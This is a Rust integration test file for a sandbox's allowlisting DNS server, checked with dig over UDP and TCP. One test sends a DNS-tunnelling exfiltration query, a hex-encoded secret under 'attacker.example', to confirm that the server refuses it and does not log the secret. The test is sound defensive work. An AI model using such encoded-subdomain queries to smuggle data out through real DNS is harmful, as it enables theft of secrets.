//! `sidecars dns` as a real process, queried by a real resolver client (`dig`, Debian's
//! `bind9-dnsutils`) over UDP and TCP on loopback: the bottle's name gets its A record, every
//! other name REFUSED at once, SIGTERM exits 0, a bad config exits 2 naming the field.
//! Without dig these tests skip, unless CI is set: then they fail.

use std::net::{SocketAddr, TcpListener, TcpStream, UdpSocket};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};
use std::time::{Duration, Instant};

use nix::sys::signal::{kill, Signal};
use nix::unistd::Pid;

const BIN: &str = env!("CARGO_BIN_EXE_sidecars");

/// Whether `dig` can run; panics when it cannot and CI is set.
fn dig_available() -> bool {
    let ok = Command::new("dig")
        .arg("-v")
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .is_ok_and(|s| s.success());
    if !ok {
        if std::env::var_os("CI").is_some() {
            panic!(
                "dig is missing and CI is set: install bind9-dnsutils (scripts/apt-packages.txt)"
            );
        }
        eprintln!("note: dig is missing (Debian package bind9-dnsutils); skipping (this fails when CI is set)");
    }
    ok
}

/// A port free on 127.0.0.1 for both TCP and UDP (bind-and-release; fine for tests).
fn free_port() -> u16 {
    loop {
        let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = tcp.local_addr().unwrap().port();
        if UdpSocket::bind(("127.0.0.1", port)).is_ok() {
            return port;
        }
    }
}

struct TempDir(PathBuf);

impl TempDir {
    fn new(tag: &str) -> TempDir {
        let nanos = std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .unwrap()
            .as_nanos();
        let dir = std::env::temp_dir().join(format!("dns-{tag}-{}-{nanos}", std::process::id()));
        std::fs::create_dir_all(&dir).unwrap();
        TempDir(dir)
    }
}

impl Drop for TempDir {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

/// A running `sidecars dns`; killed on drop if still running.
struct Dns {
    child: Child,
    addr: SocketAddr,
    log: PathBuf,
    _dir: TempDir,
}

impl Dns {
    fn start() -> Dns {
        let dir = TempDir::new("bin");
        let addr: SocketAddr = ([127, 0, 0, 1], free_port()).into();
        let config = dir.0.join("dns.json");
        std::fs::write(
            &config,
            format!(
                r#"{{"listen": "{addr}", "names": {{"sidecars": ["10.213.0.2"], "Pack.Bottle.": ["10.213.0.3", "fd00:213::3"]}}, "ttl_s": 60}}"#
            ),
        )
        .unwrap();
        let log = dir.0.join("dns.log");
        let child = Command::new(BIN)
            .args(["dns", "--config"])
            .arg(&config)
            .env("SIDECARS_LOG", "info")
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(std::fs::File::create(&log).unwrap())
            .spawn()
            .expect("start sidecars dns");
        let mut dns = Dns {
            child,
            addr,
            log,
            _dir: dir,
        };
        // Ready the way sidecar-init probes it (`tcp:53`), then UDP is bound too (it is bound
        // right after the TCP listener, before anything is served).
        let deadline = Instant::now() + Duration::from_secs(20);
        while TcpStream::connect_timeout(&addr, Duration::from_millis(200)).is_err() {
            if let Some(status) = dns.child.try_wait().unwrap() {
                panic!("sidecars dns exited early ({status}):\n{}", dns.log_text());
            }
            assert!(Instant::now() < deadline, "nothing listens on {addr}");
            std::thread::sleep(Duration::from_millis(20));
        }
        dns
    }

    fn log_text(&self) -> String {
        std::fs::read_to_string(&self.log).unwrap_or_default()
    }

    /// `dig @addr -p port <args>`: one try, a 3 s timeout, so a dropped or slow answer fails
    /// the test instead of waiting for retries.
    fn dig(&self, args: &[&str]) -> (Output, Duration) {
        let started = Instant::now();
        let out = Command::new("dig")
            .arg(format!("@{}", self.addr.ip()))
            .args(["-p", &self.addr.port().to_string()])
            .args(["+tries=1", "+time=3"])
            .args(args)
            .stdin(Stdio::null())
            .output()
            .expect("run dig");
        (out, started.elapsed())
    }

    fn wait_exit(&mut self, within: Duration) -> Option<std::process::ExitStatus> {
        let until = Instant::now() + within;
        while Instant::now() < until {
            if let Some(status) = self.child.try_wait().unwrap() {
                return Some(status);
            }
            std::thread::sleep(Duration::from_millis(10));
        }
        None
    }
}

impl Drop for Dns {
    fn drop(&mut self) {
        if let Ok(None) = self.child.try_wait() {
            let _ = self.child.kill();
            let _ = self.child.wait();
        }
    }
}

fn text(out: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

/// The `status:` of dig's header line, e.g. `NOERROR`.
fn status(out: &Output) -> String {
    let stdout = String::from_utf8_lossy(&out.stdout);
    stdout
        .split("status: ")
        .nth(1)
        .and_then(|rest| rest.split(',').next())
        .unwrap_or("<none>")
        .to_string()
}

/// dig's answer section (`+noall +answer`) as `(name, ttl, type, value)` rows.
fn answers(out: &Output) -> Vec<(String, String, String, String)> {
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .filter(|l| !l.starts_with(';') && !l.trim().is_empty())
        .map(|l| {
            let f: Vec<&str> = l.split_whitespace().collect();
            assert_eq!(f.len(), 5, "unexpected answer line {l:?}");
            assert_eq!(f[2], "IN", "{l}");
            (f[0].into(), f[1].into(), f[3].into(), f[4].into())
        })
        .collect()
}

#[test]
fn dns_answers_the_bottle_names_to_dig_over_udp_and_tcp() {
    if !dig_available() {
        return;
    }
    let dns = Dns::start();
    for transport in ["+notcp", "+tcp"] {
        let (out, _) = dns.dig(&[transport, "+noall", "+answer", "sidecars", "A"]);
        assert!(out.status.success(), "{}", text(&out));
        assert_eq!(
            answers(&out),
            vec![(
                "sidecars.".into(),
                "60".into(),
                "A".into(),
                "10.213.0.2".into()
            )],
            "{transport}: {}",
            text(&out)
        );
        // Case and the trailing dot do not matter; AAAA answers IPv6.
        let (out, _) = dns.dig(&[transport, "+noall", "+answer", "PACK.bottle.", "AAAA"]);
        assert_eq!(
            answers(&out),
            vec![(
                "PACK.bottle.".into(),
                "60".into(),
                "AAAA".into(),
                "fd00:213::3".into()
            )],
            "{transport}: {}",
            text(&out)
        );
        // Another type of a bottle name: NOERROR, no answer.
        let (out, _) = dns.dig(&[transport, "sidecars", "MX"]);
        assert_eq!(status(&out), "NOERROR", "{}", text(&out));
        assert!(text(&out).contains("ANSWER: 0"), "{}", text(&out));
    }
}

#[test]
fn dns_refuses_every_other_name_to_dig_at_once_and_logs_no_secret() {
    if !dig_available() {
        return;
    }
    let dns = Dns::start();
    let secret = "73757065722d7365637265742d76616c7565";
    let exfil = format!("{secret}.c0ffee.attacker.example.");
    for transport in ["+notcp", "+tcp"] {
        for (name, qtype) in [
            ("example.com", "A"),
            (exfil.as_str(), "TXT"),
            ("x.sidecars", "A"),
            ("localhost", "AAAA"),
        ] {
            let (out, took) = dns.dig(&[transport, name, qtype]);
            assert_eq!(
                status(&out),
                "REFUSED",
                "{transport} {name}: {}",
                text(&out)
            );
            assert!(text(&out).contains("ANSWER: 0"), "{}", text(&out));
            // Answered at once (a forwarder would take a round trip; a drop would hit dig's
            // 3 s timeout). The bound covers starting dig on a loaded machine.
            assert!(
                took < Duration::from_millis(900),
                "{transport} {name} took {took:?}"
            );
        }
    }
    // One info line per refused query, with only the last two labels of the name.
    let deadline = Instant::now() + Duration::from_secs(5);
    let log = loop {
        let log = dns.log_text();
        if log.matches("not-a-bottle-name").count() >= 8 || Instant::now() > deadline {
            break log;
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    let refused: Vec<&str> = log
        .lines()
        .filter(|l| l.contains("not-a-bottle-name"))
        .collect();
    assert_eq!(refused.len(), 8, "{log}");
    assert!(
        refused
            .iter()
            .any(|l| l.contains("name_tail=attacker.example") && l.contains("qtype=TXT")),
        "{log}"
    );
    assert!(!log.contains(secret) && !log.contains("c0ffee"), "{log}");
}

#[test]
fn dns_sigterm_exits_0_quickly() {
    if !dig_available() {
        return;
    }
    let mut dns = Dns::start();
    let (out, _) = dns.dig(&["+short", "sidecars"]);
    assert_eq!(
        String::from_utf8_lossy(&out.stdout).trim(),
        "10.213.0.2",
        "{}",
        text(&out)
    );
    // An open, idle TCP connection does not hold the exit up.
    let _idle = TcpStream::connect(dns.addr).unwrap();
    let started = Instant::now();
    kill(Pid::from_raw(dns.child.id() as i32), Signal::SIGTERM).unwrap();
    let Some(status) = dns.wait_exit(Duration::from_secs(5)) else {
        panic!(
            "sidecars dns did not exit after SIGTERM:\n{}",
            dns.log_text()
        );
    };
    assert_eq!(status.code(), Some(0), "{status:?}\n{}", dns.log_text());
    assert!(
        started.elapsed() < Duration::from_secs(2),
        "{:?}",
        started.elapsed()
    );
    assert!(TcpStream::connect_timeout(&dns.addr, Duration::from_millis(200)).is_err());
}

fn run_with_config(dir: &Path, config: &str) -> Output {
    let path = dir.join("dns.json");
    std::fs::write(&path, config).unwrap();
    Command::new(BIN)
        .args(["dns", "--config"])
        .arg(&path)
        .stdin(Stdio::null())
        .output()
        .unwrap()
}

#[test]
fn dns_bad_config_exits_2_naming_the_field() {
    let dir = TempDir::new("config");
    for (config, field) in [
        (
            r#"{"names": {"sidecars": ["10.213.0.999"]}}"#,
            "names.sidecars[0]",
        ),
        (
            r#"{"names": {"bad name": ["10.213.0.2"]}}"#,
            "names.bad name",
        ),
        (r#"{"ttl": 60}"#, "ttl"),
    ] {
        let out = run_with_config(&dir.0, config);
        assert_eq!(out.status.code(), Some(2), "{config}: {}", text(&out));
        assert!(text(&out).contains(field), "{config}: {}", text(&out));
    }
}
